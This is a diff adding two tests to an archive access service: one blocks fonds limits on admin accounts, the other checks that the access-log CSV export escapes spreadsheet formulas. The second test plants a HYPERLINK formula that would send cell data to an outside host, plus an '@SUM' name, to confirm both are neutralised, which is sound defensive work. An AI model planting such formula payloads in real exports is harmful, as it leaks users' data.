@@ -265,3 +265,46 @@ def test_the_access_log_pages(client: TestClient, station_env: Settings) -> None
     assert [r["page"] for r in first + second] == [5, 4, 3, 2]
     csv = client.get("/api/access-log", params={"format": "csv", "who": "李明"}, headers=archivist)
     assert csv.text.startswith("\ufeff时间,利用者") and csv.text.count("李明") == 5
+
+
+def test_an_admin_is_never_given_fonds_that_would_look_like_a_limit(client: TestClient, station_env: Settings) -> None:
+    """An admin sees every fonds whatever is written on it: "管理员 · C016" in the list would be a lie."""
+    admin = token(station_env, "admin")
+    body = {"name": "村支书", "role": "admin", "password": PASSWORD, "fonds": ["C016"]}
+    refused = client.post("/api/users", json=body, headers=admin)
+    assert refused.status_code == 422 and refused.json()["reason"] == "admin_fonds"
+    refused = client.post("/api/tokens", json={"role": "admin", "fonds": ["C016"]}, headers=admin)
+    assert refused.status_code == 422 and refused.json()["reason"] == "admin_fonds"
+    assert client.get("/api/users", headers=admin).json() == []
+    made = client.post("/api/users", json={**body, "role": "archivist"}, headers=admin)
+    assert made.status_code == 201
+    promoted = client.patch(f"/api/users/{quote('村支书')}", json={"role": "admin"}, headers=admin)
+    assert promoted.status_code == 422 and promoted.json()["reason"] == "admin_fonds"
+    assert client.get("/api/users", headers=admin).json()[0]["role"] == "archivist", "nothing changed"
+    promoted = client.patch(f"/api/users/{quote('村支书')}", json={"role": "admin", "fonds": []}, headers=admin)
+    assert promoted.status_code == 200 and promoted.json()["fonds"] == []
+
+
+def test_the_access_log_csv_opens_in_excel_without_running_what_a_reader_typed(
+    client: TestClient, station_env: Settings
+) -> None:
+    """利用目的 is typed by any reader (?purpose=); a cell starting with = + - @ is a formula in Excel."""
+    archivist = token(station_env, "archivist")
+    _import(client, GOOD, archivist)
+    evil = '=HYPERLINK("http://example.org/?"&A1,"查看")'
+    with session_scope(station_env.effective_database_url) as session:
+        from scanner_service.archive import access
+        from scanner_service.archive.access import Caller
+        from scanner_service.archive.models import Role
+
+        item = session.scalars(select(Item)).first()
+        assert item is not None
+        access.log_access(session, Caller(name="@SUM(1+1)", role=Role.reader), item, "pdf", purpose=evil)
+    csv_text = client.get("/api/access-log", params={"format": "csv"}, headers=archivist).text
+    import csv as csv_module
+
+    [row] = list(csv_module.reader(io.StringIO(csv_text.lstrip("\ufeff"))))[1:]
+    assert row[1] == "'@SUM(1+1)" and row[8] == "'" + evil, row
+    assert row[4] == "C015-WS·2013-Y-BGS-0001", "ordinary cells are as they are"
+    json_rows = client.get("/api/access-log", headers=archivist).json()
+    assert json_rows[0]["purpose"] == evil, "the JSON keeps what was typed"
